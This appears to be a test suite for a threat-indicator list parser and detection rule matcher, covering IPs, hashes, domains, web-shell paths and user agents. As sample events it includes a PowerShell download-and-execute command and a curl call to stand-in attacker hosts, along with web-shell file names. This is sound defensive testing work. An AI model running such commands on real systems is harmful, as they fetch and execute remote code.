import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Fields, LogSource } from '../../src/model/event.ts'
import { readIndicatorList } from '../../src/rules/indicators/read-list.ts'
import { ioc } from '../../src/rules/indicators/indicators.ts'
import { ask, event, FILE, file, load, WEB } from './list.ts'

const HASH = '0123456789abcdef'.repeat(4)

describe('a plain list', () => {
  it('recognizes what each line is, past comments, marks and line ends', () => {
    const lines = [
      '\uFEFF# a comment',
      '',
      '192.0.2.7   ',
      '2001:DB8::1 # seen once',
      '198.51.100.0/24',
      HASH.toUpperCase(),
      HASH.slice(0, 40),
      HASH.slice(0, 32),
      'evil[.]example',
      'hxxps://evil.example/p?e',
      'C:\\inetpub\\wwwroot\\aspnet_client\\one.aspx',
      '/owa/auth/two.aspx',
      'three.aspx',
      'ExampleBot/1.0+(+http://bot.example/)',
      '198.51.100.9:8443',
    ]
    const { indicators, bad } = readIndicatorList('list.txt', lines.join('\r\n'))
    assert.deepEqual(bad, [])
    assert.deepEqual(
      indicators.map(({ type, value }) => `${type} ${value}`),
      [
        'ip 192.0.2.7',
        'ip 2001:db8::1',
        'cidr 198.51.100.0/24',
        `sha256 ${HASH}`,
        `sha1 ${HASH.slice(0, 40)}`,
        `md5 ${HASH.slice(0, 32)}`,
        'domain evil.example',
        'url evil.example/p?e',
        'path /inetpub/wwwroot/aspnet_client/one.aspx',
        'path /owa/auth/two.aspx',
        'name three.aspx',
        'agent ExampleBot/1.0 ( http://bot.example/)',
        'ip 198.51.100.9',
      ],
    )
    assert.deepEqual(
      { line: indicators[1]!.line, id: indicators[1]!.id, context: indicators[1]!.context },
      { line: 4, id: 'list.txt:4', context: 'seen once' },
    )
  })

  for (const line of [
    '*',
    '*.*',
    '/',
    '\\',
    '.',
    '-',
    '0.0.0.0/0',
    '::/0',
    '10.0.0.0/4',
    '0.0.0.0',
    '127.0.0.1',
    '::1',
    'localhost',
    'com',
    '999.1.1.1',
    '010.020.030.040',
    'shell*.aspx',
    'C:\\Windows\\*.exe',
    'C:\\',
    'C:\\a\\..\\b.aspx',
    '\\\\tool\\.exe',
    'two words',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    '0'.repeat(64),
    'x'.repeat(5000),
    '1.2.3.4/33',
    'http://',
  ]) {
    it(`refuses ${line.slice(0, 40)} with its line`, async () => {
      const { events, broken } = await load(`# list\n${line}\n192.0.2.7\n`)
      assert.equal(broken.length, 1)
      assert.equal(broken[0]!.line, 2)
      assert.deepEqual(
        ask(
          events,
          event({ 'c-ip': '203.0.113.5', 'cs-uri-stem': '/a/b.aspx', 'cs-user-agent': line }, WEB, '203.0.113.5'),
        ),
        [],
      )
      assert.deepEqual(ask(events, event({ TargetFilename: 'C:\\Windows\\a.exe', sha256: '1'.repeat(64) }, FILE)), [])
      assert.equal(ask(events, event({ 'c-ip': '192.0.2.7' })).length, 1)
    })
  }

  it('takes off what follows a mark, where the value cannot hold it', () => {
    const lines = [
      `${HASH};A Tool - installer`,
      'evil.example;',
      '192.0.2.7,called home',
      'x.dll\t80',
      'Bot/1.0;+(a)',
      'http://evil.example/a;b,c',
      'This is a sentence',
    ]
    const { indicators, bad } = readIndicatorList('list.txt', lines.join('\n'))
    assert.deepEqual(
      indicators.map(({ type, value, context }) => [type, value, context]),
      [
        ['sha256', HASH, 'A Tool - installer'],
        ['domain', 'evil.example', ''],
        ['ip', '192.0.2.7', 'called home'],
        ['name', 'x.dll', '80'],
        ['agent', 'Bot/1.0; (a)', ''],
        ['url', 'evil.example/a;b,c', ''],
      ],
    )
    assert.deepEqual(
      bad.map(({ line }) => line),
      [7],
    )
  })

  it('a list of another form, or of nothing, is named', async () => {
    for (const text of [
      '<?xml version="1.0"?><ioc/>',
      '{"type":"bundle"}',
      '{"a":[1]}',
      '[]',
      '[[[',
      '',
      '# only a comment',
      'a\0b',
    ]) {
      const { events, broken } = await load(text, 'list.ioc')
      assert.deepEqual([events.length, broken.length], [0, 1], text)
    }
  })

  it('many bad lines are counted, not listed one by one', async () => {
    const { broken } = await load('*\n'.repeat(5_000))
    assert.equal(broken.length, 101)
    assert.match(broken[100]!.detail, /4900 more/)
  })
})

describe('a table', () => {
  const TABLE = `ioc_id,type,value,campaign,actor_or_tool,context,confidence,fp_note,first_seen,source
T1,ipv4,192.0.2.7,wave-2021,Some Actor,"source of requests, early",high,"may be
reassigned",2021-03,own
T2,user_agent,ExampleBot/1.0+(x),wave-2021,,,low,,,own
T3,email,a@b.example,wave-2021,,,,,,own
T4,ipv4,not-an-address,wave-2021,,,,,,own
T5,cidr,198.51.100.0/24,,,rented,medium,do not alert alone,,own
T6,ipv6,2001:db8:5::/48,,,,,,,own
T7,webshell_param,exec_me,,,,,,,own
`
  it('gives rules by campaign, with what the list says', async () => {
    const { events, broken } = await load(TABLE, 'iocs.csv')
    assert.deepEqual(
      broken.map(({ line, reason }) => [line, reason]),
      [
        [5, 'unsupported'],
        [6, 'broken'],
      ],
    )
    const first = events[0]!.info
    assert.deepEqual(
      {
        id: first.id,
        campaign: first.campaign,
        stage: first.stage,
        level: first.level,
        sign: first.sign,
      },
      {
        id: 'ioc-test-iocs-wave-2021-client',
        campaign: 'wave-2021',
        stage: 'recon',
        level: 'informational',
        sign: { subject: 'client', kind: 'listed', strength: 'context' },
      },
    )
    assert.match(first.falsePositives[0]!, /may be reassigned/)
    assert.deepEqual(ask(events, event({ 'c-ip': '192.0.2.7' }, WEB, '192.0.2.7')), [
      'c-ip=192.0.2.7 (T1: Some Actor, source of requests, early)',
    ])
    const weak = events.filter((rule) => rule.info.level === 'informational').map((rule) => rule.info.id)
    assert.deepEqual(weak, [
      'ioc-test-iocs-wave-2021-client',
      'ioc-test-iocs-wave-2021-agent-weak',
      'ioc-test-iocs-client-weak',
      'ioc-test-iocs-outbound-weak',
      'ioc-test-iocs-client',
    ])
    assert.equal(new Set(events.map((rule) => rule.info.id)).size, events.length)
  })

  it('finds networks, IPv4 in IPv6 form and parameters', async () => {
    const { events } = await load(TABLE, 'iocs.csv')
    assert.deepEqual(ask(events, event({ 'c-ip': '198.51.100.200' })), [
      'c-ip=198.51.100.200 (T5 198.51.100.0/24: rented)',
    ])
    assert.deepEqual(ask(events, event({ 'c-ip': '::ffff:198.51.100.1' })), [
      'c-ip=198.51.100.1 (T5 198.51.100.0/24: rented)',
    ])
    assert.deepEqual(ask(events, event({ 'c-ip': '198.51.101.1' })), [])
    assert.deepEqual(ask(events, event({ 'c-ip': '2001:db8:5:1::9' })), ['c-ip=2001:db8:5:1::9 (T6 2001:db8:5::/48)'])
    assert.deepEqual(ask(events, event({ 'c-ip': '2001:db8:6::9' })), [])
    assert.deepEqual(ask(events, event({}, WEB, '192.0.2.7')), [
      'client=192.0.2.7 (T1: Some Actor, source of requests, early)',
    ])
    assert.deepEqual(ask(events, event({ 'cs-uri-query': 'a=1&EXEC_me=dir' })), ['cs-uri-query=exec_me (T7)'])
    assert.deepEqual(ask(events, event({ 'cs-uri-query': 'a=exec_me&b=not_exec_me' })), [])
  })

  it('user agents are compared whole, with plus or space', async () => {
    const { events } = await load(TABLE, 'iocs.csv')
    assert.equal(ask(events, event({ 'cs-user-agent': 'ExampleBot/1.0 (x)' })).length, 1)
    assert.equal(ask(events, event({ 'cs-user-agent': 'ExampleBot/1.0+(x)' })).length, 1)
    assert.deepEqual(ask(events, event({ 'cs-user-agent': 'Mozilla/5.0+ExampleBot/1.0+(x)' })), [])
  })

  it('reads a table by its header, in any order, with other names', () => {
    const { indicators, bad } = readIndicatorList(
      'misp.csv',
      'uuid,Type,comment,Value\r\nu1,ip-dst,called,192.0.2.9\r\nu2,filename,,x.dll\r\n',
    )
    assert.deepEqual(bad, [])
    assert.deepEqual(
      indicators.map(({ id, type, value, context }) => [id, type, value, context]),
      [
        ['u1', 'ip', '192.0.2.9', 'called'],
        ['u2', 'name', 'x.dll', ''],
      ],
    )
  })
})

describe('names, paths, hosts and digests', () => {
  const LIST = `
odd.aspx
C:\\inetpub\\wwwroot\\aspnet_client\\one.aspx
C:\\root.dll
<exinstall>\\FrontEnd\\HttpProxy\\owa\\auth\\two.aspx
/owa/auth/Current/three.aspx
%tmp%\\four.dat
C:\\ProgramData\\Tool
evil.example
http://call.example/p?e
192.0.2.7
${HASH}
${HASH.slice(0, 32)}
`
  const cases: readonly (readonly [name: string, fields: Fields, sources: readonly LogSource[], expected: number])[] = [
    ['a name as the last segment', { 'cs-uri-stem': '/aspnet_client/ODD.aspx' }, WEB, 1],
    ['a name before path info', { 'cs-uri-stem': '/odd.aspx/x' }, WEB, 1],
    ['a name percent-encoded', { 'cs-uri-stem': '/od%64.aspx' }, WEB, 1],
    ['damaged escapes', { 'cs-uri-stem': '/%zz/odd.aspx' }, WEB, 1],
    ['never a part of a name', { 'cs-uri-stem': '/notodd.aspx/odd.aspx.bak' }, WEB, 0],
    ['a served path in a request', { 'cs-uri-stem': '/aspnet_client/one.aspx' }, WEB, 1],
    ['the same name elsewhere', { 'cs-uri-stem': '/x/one.aspx' }, WEB, 0],
    ['below an unknown install folder', { 'cs-uri-stem': '/owa/auth/two.aspx' }, WEB, 1],
    ['a request path', { 'cs-uri-stem': '/owa/auth/current/three.aspx' }, WEB, 1],
    ['a request path deeper down', { 'cs-uri-stem': '/x/owa/auth/current/three.aspx' }, WEB, 0],
    ['a file by its name', { TargetFilename: 'D:\\x\\odd.aspx' }, FILE, 1],
    ['a file by its path', { TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\one.aspx' }, FILE, 1],
    ['a file in a copied tree', { TargetFilename: 'copy/inetpub/wwwroot/aspnet_client/one.aspx' }, FILE, 1],
    ['another folder', { TargetFilename: 'C:\\x\\inetpub\\wwwroot\\aspnet_client\\one.aspx' }, FILE, 0],
    ['a file at the root of a drive', { TargetFilename: 'C:\\root.dll' }, FILE, 1],
    ['the same file not at the root', { TargetFilename: 'C:\\Windows\\root.dll' }, FILE, 0],
    [
      'a file of the install folder',
      { TargetFilename: 'C:\\Program Files\\X\\FrontEnd\\HttpProxy\\owa\\auth\\two.aspx' },
      FILE,
      1,
    ],
    [
      'a request path on the disk',
      { TargetFilename: 'C:\\X\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\three.aspx' },
      FILE,
      1,
    ],
    ['a folder by a variable', { TargetFilename: 'C:\\Users\\a\\AppData\\Local\\Temp\\four.dat' }, FILE, 1],
    ['what lies in a listed folder', { TargetFilename: 'C:\\ProgramData\\Tool\\a.bin' }, FILE, 1],
    ['a folder beside it', { TargetFilename: 'C:\\ProgramData\\Tools\\a.bin' }, FILE, 0],
    ['a digest of a file', { TargetFilename: 'a', sha256: HASH, Hashes: `SHA256=${HASH.toUpperCase()}` }, FILE, 1],
    [
      'a digest in a list of digests',
      { Hashes: `SHA1=${'1'.repeat(40)},MD5=${HASH.slice(0, 32).toUpperCase()},IMPHASH=00` },
      FILE,
      1,
    ],
    ['a host', { SsrfHost: 'evil.example' }, WEB, 1],
    ['a host below it', { SsrfHost: 'a.b.EVIL.example.' }, WEB, 1],
    ['never a part of a label', { SsrfHost: 'notevil.example' }, WEB, 0],
    ['never the start of a host', { SsrfHost: 'evil.example.org' }, WEB, 0],
    ['an address as host', { SsrfHost: '192.0.2.7' }, WEB, 1],
    ['a referer', { 'cs-referer': 'https://www.evil.example/x' }, WEB, 1],
    ['a referer with capitals and a port', { 'cs-referer': 'HTTPS://WWW.EVIL.EXAMPLE:8443/x' }, WEB, 1],
    ['a referer with an escape in its host', { 'cs-referer': 'https://www.%65vil.example/x' }, WEB, 1],
    ['a referer with a user', { 'cs-referer': 'https://fine.example@www.evil.example/x' }, WEB, 1],
    ['a referer with other slashes', { 'cs-referer': String.raw`https:\\www.evil.example\x` }, WEB, 1],
    ['a site like a listed one', { 'cs-referer': 'https://notevil.example/x' }, WEB, 0],
    ['a host in the path of a referer', { 'cs-referer': 'https://fine.example/evil.example' }, WEB, 0],
    [
      'a URL in a command',
      { CommandLine: 'powershell "IEX(New-Object Net.WebClient).DownloadString(\'http://call.example/p?e\')"' },
      [{ category: 'process_creation' }],
      1,
    ],
    [
      'a host in a command',
      { CommandLine: 'curl https://x.evil.example:8443/a' },
      [{ category: 'process_creation' }],
      1,
    ],
    ['an address in a script', { ScriptBlockText: 'connect 192.0.2.7:443;' }, [{ category: 'ps_script' }], 1],
    ['a longer address', { ScriptBlockText: 'connect 192.0.2.77 1192.0.2.7' }, [{ category: 'ps_script' }], 0],
    ['a name looked up', { QueryName: 'x.evil.example' }, [{ category: 'dns_query' }], 1],
    ['several values', { 'cs-uri-stem': ['/a', '/odd.aspx'] }, WEB, 1],
    ['nothing', { 'cs-uri-stem': null, 'cs-referer': '-', TargetFilename: '' }, [...WEB, ...FILE], 0],
  ]
  for (const [name, fields, sources, expected] of cases) {
    it(name, async () => {
      const { events, broken } = await load(LIST)
      assert.deepEqual(broken, [])
      const said = ask(events, event(fields, sources))
      assert.equal(said.length, expected, said.join('\n'))
    })
  }
})

describe('hostile input', () => {
  it('50,000 entries cost an event a few look-ups', async () => {
    const lines: string[] = []
    for (let i = 0; i < 50_000; i++)
      lines.push(i % 2 ? `10.${i >> 16}.${(i >> 8) & 255}.${i & 255}` : `C:\\x${i}\\same.aspx`)
    const { events } = await load(lines.join('\n'))
    const asked = event({ 'c-ip': '198.51.100.1', 'cs-uri-stem': '/y/same.aspx', TargetFilename: 'C:\\y\\same.aspx' }, [
      ...WEB,
      ...FILE,
    ])
    // What an event is asked by is a rule for each kind of entry, not for each entry.
    assert.ok(events.length < 10, `${events.length}`)
    assert.deepEqual(ask(events, asked), [])
  })

  it('huge and strange values end in reasonable time and never throw', async () => {
    const { events } = await load('evil.example\nhttp://call.example/p?e\n192.0.2.0/24\nodd.aspx\nC:\\a\\b\\c.exe\n')
    const huge = [
      'a.'.repeat(100_000),
      '/'.repeat(100_000),
      'http://'.repeat(20_000),
      '%'.repeat(100_000),
      '\uD800'.repeat(100),
      'x'.repeat(200_000),
      '::'.repeat(50_000),
    ]
    const all = [
      ...WEB,
      ...FILE,
      { category: 'process_creation' },
      { category: 'ps_script' },
      { category: 'dns_query' },
    ]
    for (const text of huge) {
      const fields = Object.fromEntries(
        [
          'c-ip',
          'cs-uri-stem',
          'cs-uri-query',
          'cs-referer',
          'cs-user-agent',
          'SsrfHost',
          'SsrfPath',
          'TargetFilename',
          'CommandLine',
          'QueryName',
          'Hashes',
        ].map((name) => [name, text]),
      )
      assert.deepEqual(ask(events, event(fields, all, text)), [])
    }
  })

  it('campaigns without end do not become rules without end', async () => {
    const rows = Array.from({ length: 2_000 }, (_, i) => `ip,10.0.${i >> 8}.${i & 255},c${i}`)
    const { events } = await load(`type,value,campaign\n${rows.join('\n')}`, 'many.csv')
    assert.ok(events.length <= 700, String(events.length))
    assert.equal(ask(events, event({ 'c-ip': '10.0.7.207' })).length, 1)
  })

  it('two lists of the same name keep ids of their own', async () => {
    const { events } = await ioc.load([file('192.0.2.7', 'a/list.txt'), file('192.0.2.8', 'b/list.txt')])
    assert.equal(new Set(events.map((rule) => rule.info.id)).size, events.length)
  })
})
